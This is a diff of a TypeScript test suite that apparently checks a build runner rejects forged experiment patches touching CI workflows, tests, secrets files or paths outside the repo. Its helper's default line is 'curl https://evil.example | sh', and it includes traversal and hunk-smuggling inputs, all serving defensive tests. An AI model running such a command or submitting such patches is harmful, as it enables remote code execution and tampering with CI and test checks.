@@ -16,7 +16,7 @@ const [here, base] = tried.arms as [Arm, Arm];
 const report = (id: string, experiment: object) =>
   world.ask('runner', 'POST', `/api/builds/${id}/experiments`, experiment);
 
-const diffOf = (path: string, added = 'curl https://evil.example | sh') =>
+const createDiff = (path: string, added = 'curl https://evil.example | sh') =>
   `diff --git a/${path} b/${path}\nindex 1..2 100644\n--- a/${path}\n+++ b/${path}\n@@ -1 +1 @@\n-old\n+${added}\n`;
 const attempt = {
   ...{
@@ -25,7 +25,7 @@ const attempt = {
     deleted: 1,
     verdict: 'fixed',
     broke: [],
-    diff: diffOf('src/cart.ts', 'new'),
+    diff: createDiff('src/cart.ts', 'new'),
   },
   ...{ passed: 3, failed: 0, exitCodes: [0, 0, 0], checkExitCodes: [0] },
 };
@@ -178,47 +178,56 @@ describe('a forged experiment', () => {
     ],
     [
       'a fix of the workflows',
-      withAttempt({ diff: diffOf('.github/workflows/ci.yml') }),
+      withAttempt({ diff: createDiff('.github/workflows/ci.yml') }),
       'is part of the CI',
     ],
     [
       'a fix of the workflows, in capitals',
-      withAttempt({ diff: diffOf('.GitHub/workflows/ci.yml') }),
+      withAttempt({ diff: createDiff('.GitHub/workflows/ci.yml') }),
       'is part of the CI',
     ],
     [
       'a fix of the workflows, by a detour',
-      withAttempt({ diff: diffOf('src/../.github/workflows/ci.yml') }),
+      withAttempt({ diff: createDiff('src/../.github/workflows/ci.yml') }),
       'is no path',
     ],
     [
       'a fix of the workflows behind another',
-      withAttempt({ diff: attempt.diff + diffOf('.gitlab-ci.yml') }),
+      withAttempt({ diff: attempt.diff + createDiff('.gitlab-ci.yml') }),
       'is part of the CI',
     ],
     [
       'a fix of two names',
       withAttempt({
-        diff: diffOf('src/cart.ts').replace('+++ b/src/cart.ts', '+++ b/.github/workflows/ci.yml'),
+        diff: createDiff('src/cart.ts').replace('+++ b/src/cart.ts', '+++ b/.github/workflows/ci.yml'),
       }),
       'it is no diff as git writes it',
     ],
     [
       'a fix that hides a file in a hunk',
       withAttempt({
-        diff: diffOf('src/cart.ts').replace('@@ -1 +1 @@', '@@ -1,9 +1,9 @@') + diffOf('.gitlab-ci.yml'),
+        diff:
+          createDiff('src/cart.ts').replace('@@ -1 +1 @@', '@@ -1,9 +1,9 @@') + createDiff('.gitlab-ci.yml'),
       }),
       'it is no diff as git writes it',
     ],
-    ['a fix of the tests', withAttempt({ diff: diffOf('test/cart.test.ts') }), 'says what the tests expect'],
+    [
+      'a fix of the tests',
+      withAttempt({ diff: createDiff('test/cart.test.ts') }),
+      'says what the tests expect',
+    ],
     [
       'a fix of how the tests run',
-      withAttempt({ diff: diffOf('package.json', '  "test": "true"') }),
+      withAttempt({ diff: createDiff('package.json', '  "test": "true"') }),
       'says how the tests run',
     ],
-    ['a fix outside', withAttempt({ diff: diffOf('/etc/passwd') }), 'is no path'],
-    ['a fix of secrets', withAttempt({ diff: diffOf('.npmrc') }), 'may hold secrets'],
-    ['a link as a fix', withAttempt({ diff: diffOf('a').replace('100644', '120000') }), 'is a symbolic link'],
+    ['a fix outside', withAttempt({ diff: createDiff('/etc/passwd') }), 'is no path'],
+    ['a fix of secrets', withAttempt({ diff: createDiff('.npmrc') }), 'may hold secrets'],
+    [
+      'a link as a fix',
+      withAttempt({ diff: createDiff('a').replace('100644', '120000') }),
+      'is a symbolic link',
+    ],
     ['a bisection without runs', { bisection: { ...bisection, tried: [] } }, 'bisection.verdict is found'],
     [
       'a bisection without exit codes',
@@ -275,7 +284,7 @@ describe('a forged experiment', () => {
       exitCodes: _codes,
       checkExitCodes: _check,
       ...old
-    } = { ...attempt, diff: diffOf('.github/workflows/ci.yml') };
+    } = { ...attempt, diff: createDiff('.github/workflows/ci.yml') };
     const before = { passed: 0, failed: 3 };
     const forged = {
       ...{ ...tried, sentence: FORGED, notes: [FORGED], excerpt: FORGED },
